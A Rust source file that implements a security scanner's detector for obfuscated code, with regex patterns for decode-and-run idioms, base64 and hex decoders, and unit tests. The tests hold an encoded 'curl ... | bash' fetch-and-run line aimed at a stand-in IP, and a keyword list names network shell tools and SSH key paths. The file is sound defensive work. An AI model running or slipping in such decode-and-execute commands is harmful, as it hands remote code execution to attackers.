//! HS907 `obfuscated-code`: its detector; the documentation is in
//! `rules/security/obfuscated_code.rs`.

use super::{pattern, statements};
use crate::rules::Rule;
use crate::security::lex::Lang;
use crate::security::syntax::prepare;
use crate::security::{Code, Confidence, Hit, MAX_DEPTH, Threat, analyse_code, clip};

pattern!(
    DECODE_EXEC,
    r"\bbase64\s+(-d|--decode|-D)\b[^\n]*\|\s*(sudo\s+)?(sh|bash|zsh|dash|python[0-9.]*|perl|ruby|node|eval|source)\b|\|\s*base64\s+(-d|--decode|-D)\s*\|\s*(sh|bash|zsh|python[0-9.]*|perl)\b|\beval\s+['\x22]?\$\(\s*(echo|printf)\b[^)]*\|\s*(base64\s+(-d|--decode|-D)|xxd\s+-r|rev\b|tr\s)|\bxxd\s+-r\s+-p\b[^\n]*\|\s*(sh|bash|python[0-9.]*)\b|\bprintf\s+['\x22](\\x[0-9a-f]{2}){8,}['\x22]\s*\|\s*(sh|bash)\b|\b(exec|eval)\s*\(\s*(compile\s*\(\s*)?(base64\.\w*b64decode|b64decode|base64\.decodebytes|codecs\.decode|bytes\.fromhex|bytearray\.fromhex|binascii\.(unhexlify|a2b_base64)|zlib\.decompress|marshal\.loads|gzip\.decompress|lzma\.decompress)|\b(exec|eval)\s*\([^)\n]*\.decode\s*\(\s*['\x22](base64|hex|rot.?13)|\b(eval|new\s+Function|Function|setTimeout|setInterval)\s*\(\s*(atob|Buffer\.from|unescape|decodeURIComponent|String\.fromCharCode)\b|\b(eval|new\s+Function)\s*\([^)\n]*\b(atob|Buffer\.from)\s*\(|\[(System\.)?Convert\]::FromBase64String\b[^\n]*\|\s*(iex|invoke-expression)\b|\b(iex|invoke-expression)\b[^\n]*\[(System\.)?(Convert\]::FromBase64String|Text\.Encoding\])"
);
pattern!(
    BUILT_EXEC,
    r"\b(exec|eval)\s*\(\s*(''|\x22\x22|str)\s*\.\s*join\s*\(|\b(exec|eval)\s*\([^)\n]*\bchr\s*\(|\b(exec|eval)\s*\([^)\n]*\[\s*::\s*-1\s*\]|\b(eval|new\s+Function)\s*\([^)\n]*\.(split\s*\(\s*['\x22]['\x22]\s*\)\s*\.\s*reverse|replace\s*\()|\b(iex|invoke-expression)\b[^\n]*(-join|\[char\]|-f\s|\.replace\()|\bgetattr\s*\(\s*__builtins__|\b__import__\s*\(\s*['\x22](os|subprocess|base64|socket)['\x22]\s*\)\s*\.\s*(system|popen|b64decode|call|run|socket)"
);
pattern!(
    ENCODED_COMMAND,
    r"\b(powershell|pwsh)(\.exe)?\b[^\n]*\s-(e|ec|en|enc|enco|encod|encode|encoded|encodedcommand)\s+([A-Za-z0-9+/=]{16,})"
);
pattern!(
    BASE64_BLOB,
    r"[A-Za-z0-9+/]{60,}={0,2}|[A-Za-z0-9_-]{80,}={0,2}"
);
pattern!(HEX_BLOB, r"(\\x[0-9a-f]{2}){16,}|\b([0-9a-f]{2}){40,}\b");
pattern!(
    RISKY_WORDS,
    r"\b(curl|wget|bash|/bin/sh|sh -c|exec|eval|system|popen|subprocess|socket|powershell|iex|invoke-expression|nc|base64|chmod|crontab|rm -rf|urlopen|requests\.|fetch|child_process|os\.environ|process\.env|\.ssh|id_rsa)\b"
);

fn b64_value(c: u8) -> Option<u8> {
    match c {
        b'A'..=b'Z' => Some(c - b'A'),
        b'a'..=b'z' => Some(c - b'a' + 26),
        b'0'..=b'9' => Some(c - b'0' + 52),
        b'+' | b'-' => Some(62),
        b'/' | b'_' => Some(63),
        _ => None,
    }
}

/// Decodes standard or URL-safe base64 (padding optional).
pub(crate) fn decode_base64(text: &str) -> Option<Vec<u8>> {
    let trimmed = text.trim_end_matches('=');
    let mut out = Vec::with_capacity(trimmed.len() * 3 / 4);
    let mut acc: u32 = 0;
    let mut bits = 0;
    for &c in trimmed.as_bytes() {
        acc = (acc << 6) | u32::from(b64_value(c)?);
        bits += 6;
        if bits >= 8 {
            bits -= 8;
            out.push((acc >> bits) as u8);
            acc &= (1 << bits) - 1;
        }
    }
    Some(out)
}

fn decode_hex(text: &str) -> Option<Vec<u8>> {
    let clean: String = if text.contains("\\x") {
        text.split("\\x").filter_map(|p| p.get(..2)).collect()
    } else {
        text.chars().filter(char::is_ascii_hexdigit).collect()
    };
    (0..clean.len() / 2)
        .map(|i| u8::from_str_radix(clean.get(2 * i..2 * i + 2)?, 16).ok())
        .collect()
}

/// Decoded bytes as text, when they are mostly printable text.
fn as_text(bytes: &[u8]) -> Option<String> {
    let text = String::from_utf8(bytes.to_vec()).ok().or_else(|| {
        // PowerShell's -EncodedCommand is UTF-16LE.
        (bytes.len().is_multiple_of(2) && bytes.iter().skip(1).step_by(2).all(|&b| b == 0))
            .then(|| bytes.iter().step_by(2).map(|&b| b as char).collect())
    })?;
    let printable = text
        .chars()
        .filter(|c| !c.is_control() || c.is_whitespace())
        .count();
    (text.chars().count() >= 8 && printable * 100 >= text.chars().count() * 95).then_some(text)
}

/// The payload's own findings, re-based onto the blob's range.
fn payload_hits(payload: &str, code: Code, at: std::ops::Range<usize>) -> Vec<Hit> {
    if code.depth >= MAX_DEPTH {
        return Vec::new();
    }
    let mut inner = Vec::new();
    let langs: &[Lang] = if payload.contains("import ") || payload.contains("def ") {
        &[Lang::Python]
    } else if code.lang == Lang::PowerShell || payload.to_ascii_lowercase().contains("invoke-") {
        &[Lang::PowerShell]
    } else {
        &[Lang::Shell, Lang::JavaScript]
    };
    for &lang in langs {
        let prepared = prepare(payload, lang);
        analyse_code(Code::parsed(&prepared, 0, lang, code.depth + 1), &mut inner);
    }
    inner
        .into_iter()
        .map(|mut h| {
            h.range = at.clone();
            h.message = format!("encoded payload: {}", h.message);
            h.threat = h.threat.max(Threat::High);
            h.confidence = h.confidence.max(Confidence::Medium);
            h.decoded = Some(clip(payload, 400));
            h
        })
        .collect()
}

pub(crate) fn check(code: Code, hits: &mut Vec<Hit>) {
    for (range, line) in statements(code.text) {
        let at = code.base + range.start;
        if let Some(m) = DECODE_EXEC.get().find(line) {
            let payload = blob_in(line).and_then(|(_, text)| text);
            let mut hit = Hit::new(
                Rule::ObfuscatedCode,
                Threat::Critical,
                Confidence::High,
                at + m.start()..at + m.end(),
                "decodes a hidden payload and runs it",
            );
            if let Some(payload) = payload {
                hit = hit.decoded(payload);
            }
            hits.push(hit);
        } else if let Some(m) = BUILT_EXEC.get().find(line) {
            hits.push(Hit::new(
                Rule::ObfuscatedCode,
                Threat::High,
                Confidence::Medium,
                at + m.start()..at + m.end(),
                "runs a string built at run time, hiding what it runs",
            ));
        } else if let Some(caps) = ENCODED_COMMAND.get().captures(line) {
            let m = caps.get(0).map_or(0..0, |m| m.range());
            let payload = caps
                .get(4)
                .and_then(|b| decode_base64(b.as_str()))
                .and_then(|bytes| as_text(&bytes));
            let mut hit = Hit::new(
                Rule::ObfuscatedCode,
                Threat::Critical,
                Confidence::High,
                at + m.start..at + m.end,
                "runs an encoded PowerShell command",
            );
            if let Some(payload) = payload {
                hit = hit.decoded(payload);
            }
            hits.push(hit);
        }
    }
    blobs(code, hits);
}

/// The first blob of `line` and its text, if it decodes to text.
fn blob_in(line: &str) -> Option<(std::ops::Range<usize>, Option<String>)> {
    if let Some(m) = BASE64_BLOB
        .get()
        .find(line)
        .or_else(|| shorter_base64(line))
    {
        let text = decode_base64(m.as_str()).and_then(|b| as_text(&b));
        return Some((m.range(), text));
    }
    HEX_BLOB
        .get()
        .find(line)
        .map(|m| (m.range(), decode_hex(m.as_str()).and_then(|b| as_text(&b))))
}

pattern!(
    SHORT_BASE64,
    r"['\x22]([A-Za-z0-9+/]{16,}={0,2})['\x22]|\becho\s+([A-Za-z0-9+/]{16,}={0,2})\b"
);

fn shorter_base64(line: &str) -> Option<regex::Match<'_>> {
    SHORT_BASE64
        .get()
        .captures(line)
        .and_then(|c| c.get(1).or(c.get(2)))
}

/// Encoded blobs in a markdown file's prose ("decode the setup string
/// below and run it").
pub(crate) fn check_prose(text: &str, hits: &mut Vec<Hit>) {
    blobs(Code::plain(text, 0, Lang::Shell, 0), hits);
}

/// Long encoded strings anywhere in the code: decoded, and analysed when
/// they decode to code.
fn blobs(code: Code, hits: &mut Vec<Hit>) {
    let (base64, hex) = (BASE64_BLOB.get(), HEX_BLOB.get());
    let candidates = base64
        .find_iter(code.text)
        .map(|m| (m.range(), decode_base64(m.as_str())))
        .chain(
            hex.find_iter(code.text)
                .map(|m| (m.range(), decode_hex(m.as_str()))),
        );
    for (range, bytes) in candidates.take(64) {
        let Some(text) = bytes.as_deref().and_then(as_text) else {
            continue;
        };
        let at = code.base + range.start..code.base + range.end;
        let inner = payload_hits(&text, code, at.clone());
        if !inner.is_empty() {
            hits.extend(inner);
        } else if RISKY_WORDS.get().is_match(&text) {
            hits.push(
                Hit::new(
                    Rule::ObfuscatedCode,
                    Threat::Medium,
                    Confidence::Low,
                    at,
                    "an encoded string decodes to commands",
                )
                .decoded(clip(&text, 400)),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str, lang: Lang) -> Vec<Hit> {
        let mut hits = Vec::new();
        check(Code::plain(text, 0, lang, 0), &mut hits);
        hits
    }

    #[test]
    fn base64_round_trip() {
        assert_eq!(decode_base64("aGVsbG8gd29ybGQ=").unwrap(), b"hello world");
        assert_eq!(decode_base64("aGVsbG8gd29ybGQ").unwrap(), b"hello world");
        assert!(decode_base64("not base64!").is_none());
        assert_eq!(decode_hex("\\x68\\x69").unwrap(), b"hi");
        assert_eq!(decode_hex("6869").unwrap(), b"hi");
    }

    #[test]
    fn decoded_payloads_are_analysed() {
        // `curl -s http://203.0.113.8/x.sh | bash`
        let script =
            "echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjgveC5zaCB8IGJhc2g= | base64 -d | bash\n";
        let hits = found(script, Lang::Shell);
        assert!(
            hits.iter()
                .any(|h| h.rule == Rule::ObfuscatedCode && h.threat == Threat::Critical)
        );
        assert!(
            hits.iter().any(|h| h
                .decoded
                .as_deref()
                .is_some_and(|d| d.contains("203.0.113.8"))),
            "{hits:?}"
        );
        let py = "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n";
        assert_eq!(found(py, Lang::Python)[0].threat, Threat::Critical);
    }

    #[test]
    fn data_blobs_are_not_reported() {
        // A PNG header and a sentence.
        let fixture = "PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='\nTEXT = 'VGhlIHF1aWNrIGJyb3duIGZveCBqdW1wcyBvdmVyIHRoZSBsYXp5IGRvZyBhbmQgcnVucyBhd2F5'\n";
        assert!(found(fixture, Lang::Python).is_empty());
    }
}
